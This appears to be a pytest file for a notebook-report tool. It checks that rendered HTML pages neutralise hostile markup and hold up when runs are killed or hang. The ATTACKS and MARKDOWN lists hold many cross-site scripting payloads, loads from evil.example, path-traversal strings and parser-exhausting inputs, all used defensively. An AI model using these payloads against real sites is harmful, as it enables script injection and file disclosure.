"""The page of a run of hostile notebooks, folders and records; and runs that are killed or do not end."""

import base64
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from typer.testing import CliRunner

from fusionlab import cli
from fusionlab.bench import records
from fusionlab.tools import offline, report
from fusionlab.tools.notebooks import run_notebooks

ROOT = Path(__file__).parents[2]
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="

# Texts that would run, fetch or send something, as Markdown, as a name, as an output.
ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href='http://evil.example/i.png'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>x</mi></math>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='http://evil.example/p.png'>",
    "<img srcset='http://evil.example/p.png 2x'>",
    "<img src='file:///etc/passwd'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<image src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='&#100;ata&#58;text/html,x'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<b onclick=alert(1) style='background:url(http://evil.example/)'>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<form action=http://evil.example><input type=image src=http://evil.example/p></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe src='http://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='http://evil.example'></object>",
    "<embed src='http://evil.example'>",
    "<video><source onerror=alert(1)></video>",
    "<video poster='http://evil.example/p.png'></video>",
    "<audio src='http://evil.example/a.mp3' autoplay></audio>",
    "<link rel=stylesheet href='http://evil.example/s.css'>",
    "<style>@import url(http://evil.example/s.css);</style>",
    "<style>body{background:url(http://evil.example/b.png)}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<table background='http://evil.example/t.png'><tr><td background='//evil.example'>x</td></tr></table>",
    "<body onload=alert(1)>",
    "<html manifest='http://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php <img src=x onerror=alert(1)> ?>",
    "</article></body></html><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src='http://evil.example'>",
    "<x onclick=alert(1)>x</x>",
    "<div id=location name=forms class=error>x</div>",
]
# The same by Markdown's own means.
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "[x](<javascript:alert(1)>)",
    '[x](http://a"onclick=alert(1))',
    "![x](http://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](/etc/passwd)",
    "![x](../../../../../../etc/passwd)",
    "![x](file:///etc/passwd)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '![x](data:x"onerror=alert(9))',
    '![x](data:image/png;base64,AAAA"onerror=alert(9))',
    "![x](attachment:nothing.png)",
    "![x](attachment:page.html)",
    '![x"onerror=alert(1)](y.png)',
    "![](%00)",
    f"![]({'a' * 5000})",
    "![](a\x00b)",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "# x <script>alert(1)</script>",
    "| a |\n|---|\n| <svg onload=alert(1)>.png |",
    "| a |\n|--:|\n| <script>alert(1)</script> |",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(http://evil.example)}{x}$",
    r"$\class{x\" onclick=\"alert(1)}{x}$",
    r"$\color{red\" onclick=\"alert(1)}{x}$",
    "$$x <script>alert(1)</script> y$$",
    r"\begin{x}<script>alert(1)</script>\end{x}",
    r"$\unknown{<img src=x onerror=alert(1)>}$",
    "$" + "{" * 3000 + "}" * 3000 + "$",
    "<div>" * 2000,
    "> " * 500 + "x",
    "[" * 2000,
    "*a " * 3000,
]


FORBIDDEN = {"style", "srcset", "background", "poster", "id", "name", "action", "formaction", "xmlns:xlink"}


class Page(HTMLParser):
    """What a browser would run, fetch or obey: a list of faults, empty for a page that is sound."""

    OURS = {
        "html",
        "head",
        "body",
        "meta",
        "title",
        "style",
        "article",
        *offline.HTML.split(),
        *offline.MATHML.split(),
    }

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.faults, self.metas, self.styles, self.pictures, self.links, self.texts = [], [], [], [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag not in self.OURS:
            self.faults.append(tag)
        self.metas += [attributes] if tag == "meta" else []
        self.styles += [""] if tag == "style" else []
        own = {"article": {"id"}, "meta": {"name"}}.get(tag, set())
        for name, value in attrs:
            plain = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or ":" in name or name in FORBIDDEN - own:
                self.faults.append(f"{tag} {name}")
            if name == "src":
                self.pictures.append(value)
                if not (tag == "img" and re.fullmatch(r"data:image/[a-z]+;base64,[A-Za-z0-9+/=]+", value)):
                    self.faults.append(f"{tag} src {value}")
            if name == "href":
                self.links.append(value)
                if tag != "a" or (
                    ":" in plain and not plain.startswith(("http://", "https://", "mailto:", "#"))
                ):
                    self.faults.append(f"{tag} href {value}")

    def handle_data(self, data):
        if self.lasttag == "style" and self.styles and not self.styles[-1]:
            self.styles[-1] = data
        self.texts.append(data)


def sound(html: str) -> Page:
    """The page, after asserting that nothing in it runs or fetches; its policy must hold its own style."""
    page = Page(html)
    assert page.faults == []
    policies = [meta["content"] for meta in page.metas if meta.get("http-equiv") == "Content-Security-Policy"]
    assert len(page.metas) == 3  # characters, policy, viewport: none of a notebook
    assert len(page.styles) == 1
    digest = base64.b64encode(hashlib.sha256(page.styles[0].encode()).digest()).decode()
    assert policies == [
        f"default-src 'none'; img-src data:; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    ]
    assert html.index("Content-Security-Policy") < html.index("<title>")
    return page


def write(run: Path, *cells, metadata=None, data: str = "scenes", error: str = "") -> str:
    """The page of a run of one executed notebook called x."""
    (run / "notebooks").mkdir(parents=True, exist_ok=True)
    notebook = {"cells": list(cells), "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5}
    (run / "notebooks" / "x.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    outcome = {"name": "x", "ok": not error, "seconds": 1.0, "error": error}
    kept = {"made": data, "profile": "smoke", "data": data, "outcomes": [outcome]}
    (run / "run.json").write_text(json.dumps(kept), encoding="utf-8")
    return report.write_report(run).read_text("utf-8")


def bundle(data: dict, metadata: dict | None = None):
    """A code cell that displayed something, whether or not that is valid."""
    output = nbformat.from_dict({"output_type": "display_data", "data": data, "metadata": metadata or {}})
    return new_code_cell("x") | {"outputs": [output]}


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_of_a_notebook_is_shown_and_does_nothing(tmp_path, tally, attack):
    """In text, within a line, in a table, as an output, an error, a name, a description and a picture."""
    tally["inputs"] += 1
    encoded = base64.b64encode(attack.encode()).decode()
    stream = new_output("stream", name="stdout", text=attack)
    stream["name"] = attack
    failure = new_output("error", ename=attack, evalue=attack, traceback=[attack])
    html = write(
        tmp_path / "run",
        new_markdown_cell(attack),
        new_markdown_cell(f"text {attack} text\n\n- {attack}\n\n| {attack} |\n|---|\n| {attack} |"),
        new_code_cell(attack, outputs=[stream, failure]),
        bundle({"text/plain": attack}),
        bundle({"text/markdown": attack, "text/html": attack}),
        bundle({"text/markdown": [attack]}),
        bundle({"text/html": attack, "application/javascript": attack, "image/svg+xml": attack}),
        bundle({"image/png": attack}, {"image/png": {"alt": attack}}),
        bundle({"image/png": encoded}, {"image/png": {"alt": attack}}),
        bundle({"image/jpeg": [PIXEL]}, {"image/jpeg": {"alt": attack}}),
        bundle({"image/png": PIXEL}, {"image/png": attack}),
        data=attack,
        error=attack,
    )
    page = sound(html)
    assert page.pictures == [f"data:image/png;base64,{PIXEL}"] * 2
    assert "evil.example" not in "".join(page.pictures)


@pytest.mark.parametrize("attack", MARKDOWN, ids=range(len(MARKDOWN)))
@pytest.mark.timeout(60)
def test_nor_does_markdown(tmp_path, tally, attack):
    tally["inputs"] += 1
    attachments = {"page.html": {"text/html": base64.b64encode(b"<script>alert(1)</script>").decode()}}
    page = sound(
        write(
            tmp_path / "run",
            new_markdown_cell(attack, attachments=attachments),
            bundle({"text/markdown": attack}),
        )
    )
    assert page.pictures == []


def test_the_notebook_of_the_bug_search(shared, tmp_path, tally):
    tally["inputs"] += 1
    notebook = nbformat.read(shared / "cases" / "faults" / "escape.ipynb", as_version=4)
    sound(write(tmp_path / "run", *notebook.cells))


@pytest.mark.parametrize("attack", ATTACKS)
def test_neither_do_folders_records_and_runs_of_such_names(tmp_path, tally, attack):
    tally["inputs"] += 1
    stamp = records.Stamp(*[attack] * len(records.STAMP_FIELDS))
    texts = {name: attack for name in records.FIELDS if name not in ("run", "value", "seed", "error")}
    run = tmp_path / re.sub(r"[/\0]", "", attack)[:200]
    records.append(run, records.Record(**texts, run=stamp, value=0.5, seed=0, error=None))
    sound(report.write_report(run).read_text("utf-8"))


def test_a_picture_is_embedded_from_the_notebooks_own_folder_alone(tmp_path, tally):
    tally["inputs"] += 10
    pixel = base64.b64decode(PIXEL)
    own = tmp_path / "course" / "notebooks"
    for path in (
        own / "a.png",
        own / "sub" / "b.png",
        tmp_path / "private.png",
        tmp_path / "course" / "up.png",
    ):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(pixel)
    (own / "text.png").write_text("secret")
    (own / "drawn.svg").write_text("<svg onload='alert(1)'></svg>")
    (own / "link.png").symlink_to(tmp_path / "private.png")
    os.mkfifo(own / "pipe.png")
    (own / "x.ipynb").write_text("{}")
    names = ["a.png", "sub/b.png", "./a.png", "sub/../a.png"]
    hostile = [
        "../up.png",
        "../../private.png",
        str(tmp_path / "private.png"),
        "link.png",
        "text.png",
        "pipe.png",
    ]
    hostile += [f"file://{tmp_path}/private.png", "sub", "", "~/x.png"]
    text = "\n".join(f"![seen {name}]({name})" for name in names + hostile)
    metadata = {"papermill": {"input_path": str(own / "x.ipynb")}}
    page = sound(write(tmp_path / "run", new_markdown_cell(text), metadata=metadata))
    assert page.pictures == [f"data:image/png;base64,{PIXEL}"] * 4
    shown = "".join(page.texts)
    assert all(f"seen {name}" in shown for name in hostile if name)

    # A notebook that only says it came from there is not believed.
    (own / "x.ipynb").unlink()
    assert sound(write(tmp_path / "run", new_markdown_cell(text), metadata=metadata)).pictures == []
    for strange in (
        {"papermill": "x"},
        {"papermill": {"input_path": 7}},
        {"papermill": {"input_path": "/dev/zero"}},
    ):
        assert sound(write(tmp_path / "run", new_markdown_cell(text), metadata=strange)).pictures == []


def test_attachments_are_pictures_whatever_they_say(tmp_path, tally):
    tally["inputs"] += 3
    encoded = base64.b64encode(b"<script>").decode()
    attachments = {"a.png": {"text/html": PIXEL}, "b.png": {"image/png": encoded}, "c.png": {}}
    cell = new_markdown_cell("![a](attachment:a.png) ![b](attachment:b.png) ![c](attachment:c.png)")
    cell.attachments = attachments
    assert sound(write(tmp_path / "run", cell)).pictures == [f"data:image/png;base64,{PIXEL}"]


def events(html: str) -> list[object]:
    """Tags and texts, but for paragraphs: a block within one ends it, which browsers do, too."""

    class Events(HTMLParser):
        def handle_starttag(self, tag, attrs):
            seen.append((tag, sorted(attrs)))

        def handle_endtag(self, tag):
            seen.append(f"/{tag}")

        def handle_data(self, data):
            text.append(data.strip())

    seen: list[object] = []
    text: list[str] = []
    Events(convert_charrefs=True).feed(html)
    return [event for event in seen if event not in (("p", []), "/p")] + ["".join(text)]


@pytest.mark.parametrize("path", sorted((ROOT / "notebooks").glob("*.ipynb")), ids=lambda path: path.stem)
def test_honest_notebooks_lose_nothing(path, monkeypatch):
    """Formulas, tables, pictures and links of the course come out as they went in."""
    cells = nbformat.read(path, as_version=4).cells

    def page() -> str:
        texts = [
            offline.to_html(cell.source, path.parent, []) for cell in cells if cell.cell_type == "markdown"
        ]
        outputs = [
            report._output(output, path.parent, []) for cell in cells for output in cell.get("outputs", [])
        ]
        return "\n".join(texts + outputs)

    clean = page()
    monkeypatch.setattr(offline, "_sanitised", lambda html: html)
    assert events(clean) == events(page())
    assert clean.count("<math") > 3


def test_aligned_tables_and_folds_stay(tmp_path):
    text = "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n"
    text += "<details><summary>more</summary>\n\nhidden\n\n</details>"
    html = write(tmp_path / "run", new_markdown_cell(text))
    sound(html)
    assert '<td class="right">3</td>' in html
    assert '<th class="center">b</th>' in html
    assert "<details><summary>more</summary>" in html
    assert "</details>" in html


SETTINGS = '{"made": "x", "profile": "p", "data": "d", "outcomes": [%s]}'
ODD = {
    "empty": "",
    "no JSON": "{",
    "a list": "[]",
    "a number": "7",
    "null": "null",
    "nothing in it": "{}",
    "no outcomes": '{"made": "x", "profile": "p", "data": "d"}',
    "outcomes of another kind": SETTINGS % "7",
    "a text for seconds": SETTINGS % '{"name": "x", "ok": true, "seconds": "1", "error": ""}',
    "a path for a name": SETTINGS % '{"name": "../x", "ok": true, "seconds": 1, "error": ""}',
    "a number for data": '{"made": "x", "profile": "p", "data": 7, "outcomes": []}',
    "depth": "[" * 100_000,
    "no UTF-8": b"\xff\xfe{",
}


@pytest.mark.parametrize("content", ODD.values(), ids=ODD)
def test_an_odd_run_json_is_one_line(tmp_path, tally, content):
    tally["inputs"] += 1
    (tmp_path / "run.json").write_bytes(content if isinstance(content, bytes) else content.encode())
    done = CliRunner().invoke(cli.app, ["report", str(tmp_path)])
    assert done.exit_code == 1
    (error,) = done.stderr.splitlines()
    assert error.startswith(f"error: {tmp_path / 'run.json'} is none that fusionlab run wrote")
    assert not (tmp_path / "index.html").exists()


@pytest.mark.parametrize(
    "content", ["", "{", "[]", '{"cells": 7, "nbformat": 4, "nbformat_minor": 5}', b"\xff", "[" * 10**5]
)
def test_a_torn_notebook_is_named_on_the_page(tmp_path, tally, content):
    tally["inputs"] += 1
    write(tmp_path)
    torn = tmp_path / "notebooks" / "x.ipynb"
    torn.write_bytes(content if isinstance(content, bytes) else content.encode())
    page = sound(report.write_report(tmp_path).read_text("utf-8"))
    assert "x cannot be read (" in "".join(page.texts)


def test_half_a_character_pair_and_odd_bundles_do_not_stop_the_page(tmp_path, tally):
    tally["inputs"] += 4
    html = write(
        tmp_path,
        new_markdown_cell("half \ud800 a pair"),
        bundle({"text/plain": 7}),
        bundle({"image/png": {"a": 1}}),
        bundle({"text/plain": {"deep": ["x"]}}),
    )
    sound(html)
    assert r"half \ud800 a pair" in html


# --- runs that are ended ---


def notebooks(folder: Path, *sources: str) -> None:
    for number, source in enumerate(sources):
        path = folder / "notebooks" / f"{number:02d}_x.ipynb"
        path.parent.mkdir(exist_ok=True, parents=True)
        nbformat.write(new_notebook(cells=[new_code_cell(source)]), path)


def ended(folder: Path, how: int, after: float | None) -> tuple[int, str, Path]:
    """Exit code, stderr and run folder of a `fusionlab run` that got a signal in its second notebook."""
    (folder / "begun").unlink(missing_ok=True)
    notebooks(
        folder,
        "print('first')",
        f"open({str(folder / 'begun')!r}, 'w').close()\nimport time; time.sleep(600)",
    )
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "FUSIONLAB_RUNS": str(folder / "runs")}
    command = [sys.executable, "-m", "fusionlab.cli", "run", "--profile", "smoke"]
    with subprocess.Popen(
        command, cwd=folder, env=environment, stdout=-3, stderr=subprocess.PIPE, text=True
    ) as process:
        deadline = time.monotonic() + 120
        while not (folder / "begun").exists() and time.monotonic() < deadline and process.poll() is None:
            time.sleep(0.05)
            if after is not None and time.monotonic() - deadline + 120 > after:
                break
        process.send_signal(how)
        time.sleep(0.05)
        process.send_signal(how)  # those who shut down do so twice
        begin = time.monotonic()
        _, errors = process.communicate(timeout=60)
    assert time.monotonic() - begin < 9  # after ten seconds comes SIGKILL
    return process.returncode, errors, max((folder / "runs").iterdir(), default=None, key=os.path.getmtime)


def alive(folder: Path) -> list[str]:
    """Kernels whose working folder is this one."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if Path(os.readlink(process / "cwd")) == folder / "notebooks":
                found.append((process / "cmdline").read_bytes().decode())
        except OSError:
            continue
    return found


@pytest.mark.parametrize(
    ("how", "code"),
    [
        (signal.SIGTERM, 143),
        pytest.param(signal.SIGHUP, 129, marks=pytest.mark.nightly),
        pytest.param(signal.SIGKILL, -9, marks=pytest.mark.nightly),
    ],
)
def test_a_run_that_is_ended_leaves_what_was_done(tmp_path, tally, how, code):
    tally["kills"] += 1
    returned, errors, run = ended(tmp_path, how, None)
    assert returned == code, errors
    assert "Traceback" not in errors
    kept = json.loads((run / "run.json").read_text())
    done = [(outcome["name"], outcome["ok"], outcome["error"]) for outcome in kept["outcomes"]]
    if how == signal.SIGKILL:  # the page can be written from what is kept
        assert done == [("00_x", True, "")]
        report.write_report(run)
    else:
        assert errors.splitlines()[-1] == "stopped"
        assert done == [("00_x", True, ""), ("01_x", False, "interrupted")]
        assert alive(tmp_path) == []
    page = sound((run / "index.html").read_text("utf-8"))
    assert "first" in "".join(page.texts)


@pytest.mark.nightly
@pytest.mark.parametrize("after", [2.5, 3.0, 3.5, 4.0, 5.0, 6.0])
def test_at_any_time(tmp_path, tally, after):
    tally["kills"] += 1
    returned, errors, run = ended(tmp_path, signal.SIGTERM, after)
    assert "Traceback" not in errors
    if run is not None and (run / "notebooks").exists() and returned == 143:
        json.loads((run / "run.json").read_text())
        sound((run / "index.html").read_text("utf-8"))
    assert alive(tmp_path) == []


def test_a_cell_that_does_not_end_is_ended(tmp_path, tally, monkeypatch):
    tally["inputs"] += 1
    notebooks(tmp_path, "import time\nwhile True: time.sleep(1)")
    seen = {}
    files = sorted((tmp_path / "notebooks").iterdir())
    outcomes = run_notebooks(files, "smoke", "scenes", None, tmp_path / "run", progress=False, limit=1)
    assert [outcome.ok for outcome in outcomes] == [False]
    assert "timed out" in outcomes[0].error
    assert "1 seconds" in outcomes[0].error
    sound((tmp_path / "run" / "index.html").read_text("utf-8"))

    monkeypatch.setattr("fusionlab.tools.notebooks.run_notebooks", lambda *_, **more: seen.update(more) or [])
    monkeypatch.setenv("FUSIONLAB_RUNS", str(tmp_path / "runs"))
    assert CliRunner().invoke(cli.app, ["run", str(files[0]), "--cell-limit", "7"]).exit_code == 0
    assert seen == {"limit": 7}
    assert CliRunner().invoke(cli.app, ["run", str(files[0]), "--cell-limit", "0"]).exit_code == 2
